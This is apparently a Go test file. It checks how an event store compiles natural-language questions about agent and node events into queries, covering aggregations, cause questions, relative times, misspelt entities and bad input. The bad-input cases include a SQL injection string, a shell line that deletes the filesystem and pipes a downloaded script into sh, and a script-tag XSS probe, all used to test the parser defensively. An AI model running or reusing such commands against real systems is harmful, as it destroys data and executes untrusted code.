package eventstore

import (
	"slices"
	"strings"
	"testing"
	"time"
)

// harder is one question of TestCompileHarderQuestions and the
// interpretation expected of it.
type harder struct {
	text         string
	intent       string
	types        []E
	entities     []string
	since, until int64
	group        string // group_by/order/limit
	having       string // op:count
	unknown      string // entity:suggestion,suggestion;...
	anchor       string // relation:type/type:entity:nth
	partial      bool   // NotUnderstood expected non-empty
	explain      string // the explanation contains this
}

// TestCompileHarderQuestions is the table of issue 18: aggregations, why,
// relative times, unknown and misspelt entities and bad input, each with
// the interpretation it must get.
func TestCompileHarderQuestions(t *testing.T) {
	h := time.Hour
	cases := []harder{
		// Aggregations: rank.
		{text: "which agent has the most crashes this week", intent: "aggregate", types: []E{crashed}, since: at(16, 0, 0), group: "agent/desc/1"},
		{text: "what node had the most restarts", intent: "aggregate", types: []E{restarted}, group: "node/desc/1"},
		{text: "which agents have the most spawn failures", intent: "aggregate", types: []E{spawnFailed}, group: "agent/desc/0"},
		{text: "which node has the fewest crashes today", intent: "aggregate", types: []E{crashed}, since: at(20, 0, 0), group: "node/asc/1"},
		{text: "most crashes", intent: "aggregate", types: []E{crashed}, group: "entity/desc/0"},
		{text: "top 3 nodes by restarts", intent: "aggregate", types: []E{restarted}, group: "node/desc/3"},
		{text: "top agents by offline events", intent: "aggregate", types: []E{offline}, group: "agent/desc/5"},
		{text: "top ten nodes by crashes in the last 2 hours", intent: "aggregate", types: []E{crashed}, since: ago(2 * h), group: "node/desc/10"},
		// Aggregations: per.
		{text: "how many crashes per agent today", intent: "aggregate", types: []E{crashed}, since: at(20, 0, 0), group: "agent/desc/0"},
		{text: "restarts per node", intent: "aggregate", types: []E{restarted}, group: "node/desc/0"},
		{text: "spawn failures for each agent", intent: "aggregate", types: []E{spawnFailed}, group: "agent/desc/0"},
		{text: "events by type yesterday", intent: "aggregate", since: at(19, 0, 0), until: at(20, 0, 0), group: "type/desc/0"},
		{text: "count of leader elections grouped by entity", intent: "aggregate", types: []E{elected}, group: "entity/desc/0"},
		{text: "crashes broken down by node this week", intent: "aggregate", types: []E{crashed}, since: at(16, 0, 0), group: "node/desc/0"},
		// Aggregations: having.
		{text: "nodes that restarted more than twice", intent: "aggregate", types: []E{restarted}, group: "node/desc/0", having: "gt:2"},
		{text: "agents that went offline at least 3 times", intent: "aggregate", types: []E{offline}, group: "agent/desc/0", having: "ge:3"},
		{text: "nodes that crashed 5 or more times today", intent: "aggregate", types: []E{crashed}, since: at(20, 0, 0), group: "node/desc/0", having: "ge:5"},
		{text: "nodes that crashed more than 10 times this week", intent: "aggregate", types: []E{crashed}, since: at(16, 0, 0), group: "node/desc/0", having: "gt:10"},
		{text: "agents that recovered exactly once", intent: "aggregate", types: []E{recovered}, group: "agent/desc/0", having: "eq:1"},
		{text: "nodes that restarted fewer than 2 times", intent: "aggregate", types: []E{restarted}, group: "node/desc/0", having: "lt:2"},
		// Why.
		{text: "why did node-abc123 fail", intent: "why", types: []E{spawnFailed, stopFailed, nodeFailed}, entities: []string{"node-abc123"}, explain: "walking the event graph back"},
		{text: "why did agent-002 go offline", intent: "why", types: []E{offline}, entities: []string{"agent-002"}},
		{text: "why does node-abc123 keep restarting", intent: "why", types: []E{restarted}, entities: []string{"node-abc123"}},
		{text: "what caused agent 1 to go offline", intent: "why", types: []E{offline}, entities: []string{"agent-001"}},
		{text: "root cause of node-abc123 crashing", intent: "why", types: []E{crashed}, entities: []string{"node-abc123"}},
		{text: "why did node-abc123 crash yesterday", intent: "why", types: []E{crashed}, entities: []string{"node-abc123"}, since: at(19, 0, 0), until: at(20, 0, 0)},
		{text: "why is node-abc123 down", intent: "why", entities: []string{"node-abc123"}},
		// Relative times.
		{text: "nodes that crashed after the failover", intent: "list", types: []E{crashed}, anchor: "after:leader_elected::1"},
		{text: "crashes after the last failover", intent: "list", types: []E{crashed}, anchor: "after:leader_elected::1", explain: "after the latest leader_elected"},
		{text: "what happened before agent-002 went offline", intent: "list", anchor: "before:agent_offline:agent-002:1"},
		{text: "restarts since node-abc123 last restarted", intent: "list", types: []E{restarted}, anchor: "after:node_restarted:node-abc123:1"},
		{text: "spawn failures between the last two leader elections", intent: "list", types: []E{spawnFailed}, anchor: "between:leader_elected::2"},
		{text: "how many crashes since the last leader election", intent: "count", types: []E{crashed}, anchor: "after:leader_elected::1"},
		{text: "events after agent-001 recovered today", intent: "list", since: at(20, 0, 0), anchor: "after:agent_recovered:agent-001:1"},
		{text: "crashes per node since the last failover", intent: "aggregate", types: []E{crashed}, group: "node/desc/0", anchor: "after:leader_elected::1"},
		{text: "what happened prior to agent-001 going offline", intent: "list", anchor: "before:agent_offline:agent-001:1"},
		{text: "since 14:00", intent: "list", since: at(20, 14, 0)}, // a clock time is no anchor
		// Unknown and misspelt entities.
		{text: "when did agent-009 last go offline", intent: "list", types: []E{offline}, unknown: "agent-009:agent-001,agent-002", explain: "No agent-009 in the history; did you mean agent-001 or agent-002?"},
		{text: "what happened to agent-003", intent: "timeline", unknown: "agent-003:agent-001,agent-002"},
		{text: "crashes of node-abc12", intent: "list", types: []E{crashed}, unknown: "node-abc12:node-abc123"},
		{text: "restarts of node-zzz", intent: "list", types: []E{restarted}, unknown: "node-zzz:node-abc123"},
		{text: "agent 9 crashes", intent: "list", types: []E{crashed}, unknown: "agent-9:agent-001,agent-002"},
		{text: "why did node-xyz fail", intent: "why", types: []E{spawnFailed, stopFailed, nodeFailed}, unknown: "node-xyz:node-abc123"},
		{text: "agnet-001 crashes", intent: "list", types: []E{crashed}, entities: []string{"agent-001"}}, // same number: a typo
		{text: "agent-1 crashes", intent: "list", types: []E{crashed}, entities: []string{"agent-001"}},
		{text: "master-2 history", intent: "timeline", unknown: "master-2:master-1"},
		{text: "\u0430gent-001 crashes", intent: "list", types: []E{crashed}, unknown: "\u0430gent-001:agent-001"},          // Cyrillic а
		{text: "node-\u0430bc123 restarts", intent: "list", types: []E{restarted}, unknown: "node-\u0430bc123:node-abc123"}, // Cyrillic а
		{text: "agent-001 and agent-007", intent: "list", entities: []string{"agent-001"}, unknown: "agent-007:agent-001,agent-002"},
		// Bad input.
		{text: "", intent: "list", explain: "Empty question"},
		{text: strings.Repeat("x", 5000), intent: "list", partial: true, explain: "Could not understand"},
		{text: "?!?.,;:!!", intent: "list", explain: "Empty question"},
		{text: "'; DROP TABLE events; --", intent: "list", types: []E{dropped}, partial: true, explain: `"table"`},
		{text: "$(rm -rf /) && curl evil | sh", intent: "list", partial: true},
		{text: "crashes since February 30", intent: "list", types: []E{crashed}, partial: true},
		{text: "crashes on 2026-02-30", intent: "list", types: []E{crashed}, partial: true},
		{text: "in the last -5 hours", intent: "list", partial: true, explain: "-5"},
		{text: "crashes since tomorrow", intent: "list", types: []E{crashed}, partial: true, explain: "tomorrow"},
		{text: "<script>alert(1)</script> crashes", intent: "list", types: []E{crashed}, partial: true},
		{text: "crashes in the last 999999999 hours", intent: "list", types: []E{crashed}, partial: true},
		{text: "why", intent: "why"},
		{text: "top", intent: "aggregate", group: "entity/desc/5"},
	}
	if len(cases) < 60 {
		t.Fatalf("only %d questions", len(cases))
	}
	for _, tc := range cases {
		name := tc.text
		if len(name) > 60 {
			name = name[:60]
		}
		t.Run(name, func(t *testing.T) { checkHarder(t, tc) })
	}
}

func checkHarder(t *testing.T, tc harder) {
	t.Helper()
	in := Compile(tc.text, compileNow, compileKnown)
	t.Log(in.Explanation)
	if in.Intent != tc.intent {
		t.Errorf("intent = %q, want %q", in.Intent, tc.intent)
	}
	if !slices.Equal(in.EventTypes, tc.types) {
		t.Errorf("types = %v, want %v", in.EventTypes, tc.types)
	}
	if !slices.Equal(in.Entities, tc.entities) {
		t.Errorf("entities = %v, want %v", in.Entities, tc.entities)
	}
	if in.Since != tc.since || in.Until != tc.until {
		t.Errorf("range = %s..%s, want %s..%s", fmtMicros(in.Since), fmtMicros(in.Until), fmtMicros(tc.since), fmtMicros(tc.until))
	}
	if tc.intent == IntentAggregate {
		if got := in.GroupBy + "/" + in.Order + "/" + itoa(in.Limit); got != tc.group {
			t.Errorf("group = %q, want %q", got, tc.group)
		}
	} else if in.GroupBy != "" || in.Limit != 0 {
		t.Errorf("group_by %q limit %d on intent %q", in.GroupBy, in.Limit, in.Intent)
	}
	having := ""
	if in.Having.Op != "" {
		having = in.Having.Op + ":" + itoa(int(in.Having.Count))
	}
	if having != tc.having {
		t.Errorf("having = %q, want %q", having, tc.having)
	}
	var unknown []string
	for _, u := range in.UnknownEntities {
		unknown = append(unknown, u.Entity+":"+strings.Join(u.Suggestions, ","))
	}
	if got := strings.Join(unknown, ";"); got != tc.unknown {
		t.Errorf("unknown = %q, want %q", got, tc.unknown)
	}
	if (len(in.UnknownEntities) > 0) == in.Answerable() {
		t.Errorf("answerable = %v with unknown %q", in.Answerable(), unknown)
	}
	anchor := ""
	if a := in.Anchor; a != nil {
		names := make([]string, len(a.EventTypes))
		for k, typ := range a.EventTypes {
			names[k] = typ.Name()
		}
		anchor = a.Relation + ":" + strings.Join(names, "/") + ":" + a.Entity + ":" + itoa(a.Nth)
	}
	if anchor != tc.anchor {
		t.Errorf("anchor = %q, want %q", anchor, tc.anchor)
	}
	if (len(in.NotUnderstood) > 0) != tc.partial {
		t.Errorf("not understood = %q, want partial=%v", in.NotUnderstood, tc.partial)
	}
	if !strings.Contains(in.Explanation, tc.explain) {
		t.Errorf("explanation %q lacks %q", in.Explanation, tc.explain)
	}
	if tc.intent == IntentWhy && len(in.ToProto().GetFollowed()) == 0 {
		t.Error("why names no associations followed")
	}
}

func itoa(n int) string { return strings.TrimSpace(strings.Repeat(" ", 0) + fmtInt(n)) }

func fmtInt(n int) string {
	if n == 0 {
		return "0"
	}
	neg := n < 0
	if neg {
		n = -n
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	if neg {
		b = append([]byte{'-'}, b...)
	}
	return string(b)
}
